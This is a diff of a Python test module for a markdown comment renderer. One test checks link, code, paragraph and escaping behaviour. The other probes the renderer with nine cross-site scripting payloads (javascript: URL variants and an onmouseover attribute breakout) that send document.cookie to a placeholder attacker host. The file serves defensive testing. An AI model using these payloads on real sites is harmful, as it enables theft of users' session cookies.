@@ -3,36 +3,51 @@ from datetime import UTC, datetime
 from page import scripts_of, tags_of
 
 
-def render(code, source):
-    comment = code.Comment(12, "Ada <ada@example.com>", datetime(2026, 1, 5, tzinfo=UTC), source)
-    return code.render_comment(comment)
+def render(code, source, author="Ada"):
+    return code.render_comment(code.Comment(12, author, datetime(2026, 1, 5, tzinfo=UTC), source))
 
 
-def works(code):
-    html = render(code, "See [the guide](https://example.com/guide?a=1&b=2), `a<b>` and\nask @grace-h.\n\n<b>Bye</b>")
+def works(code, vary):
+    label = f"{vary.name()}'s guide"
+    address = f"https://example.com/{vary.word()}?a={vary.number(1, 9)}&b=javascript:"
+    person = f"{vary.word()}-h"
+    author = f"{vary.name()} <{vary.word()}@example.com>"
+    html = render(code, f"See [{label}]({address}), `a<b>` and\nask @{person}.\n\n<b>Bye</b>", author)
     tags = tags_of(html)
     links = [(tag["attributes"]["href"], tag["text"]) for tag in tags if tag["name"] == "a"]
-    assert links == [("https://example.com/guide?a=1&b=2", "the guide"), ("/people/grace-h", "@grace-h")], links
-    assert [tag["text"] for tag in tags if tag["name"] == "code"] == ["a<b>"]
-    assert len([tag for tag in tags if tag["name"] == "p"]) == 2
-    assert "&lt;b&gt;Bye" in html
-    assert "Ada &lt;ada@example.com&gt;" in html
+    assert links[:1] == [(address, label)], f'"{label}" should link to {address}.'
+    assert links[1:] == [(f"/people/{person}", f"@{person}")], f"@{person} should link to that person."
+    assert [tag["text"] for tag in tags if tag["name"] == "code"] == ["a<b>"], "Text between backticks should be shown as code."
+    assert len([tag for tag in tags if tag["name"] == "p"]) == 2, "An empty line should begin a new paragraph."
+    assert "&lt;b&gt;Bye" in html, "HTML in a comment should be shown as text."
+    assert any(author in tag["text"] for tag in tags), f"The author {author} should be shown."
 
 
-STEAL = "location='https://attacker.example/?'+document.cookie"
-FORMS = (
-    f"javascript:{STEAL}",
-    f"JavaScript:{STEAL}",
-    f"\x01javascript:{STEAL}",
-    f"javascript://example.com/%0a{STEAL}",
-)
+def forms_of(steal):
+    return (
+        f"javascript:{steal}",
+        f"JavaScript:{steal}",
+        f"\x01javascript:{steal}",
+        f"\x00\x1bjavascript:{steal}",
+        f"javascript://example.com/%0a{steal}",
+        f"JAVASCRIPT://https://example.com/%0a{steal}",
+        f"javascript:/*https://example.com/*/{steal}",
+        f"javascript:'https://';{steal}",
+        f'https://example.com/"onmouseover="{steal}',
+    )
 
 
-def exploit(code, vary=None, payloads=FORMS):
-    for target in payloads:
-        scripts = scripts_of(render(code, f"See the [release notes]({target})"))
-        if any(script.endswith("document.cookie") for script in scripts):
-            return True
+def exploit(code, vary, payloads=None):
+    forms = forms_of(f"location='https://{vary.word()}.example/?'+document.cookie") if payloads is None else payloads
+    for target in forms:
+        comment = f"See the [release notes]({target})"
+        try:
+            scripts = scripts_of(render(code, comment))
+        except Exception:
+            continue  # Refused; the next form may be not.
+        for script in scripts:
+            if script.endswith("document.cookie"):
+                return {"sent": comment, "got": f"A click runs {script}"}
     return False
 
 
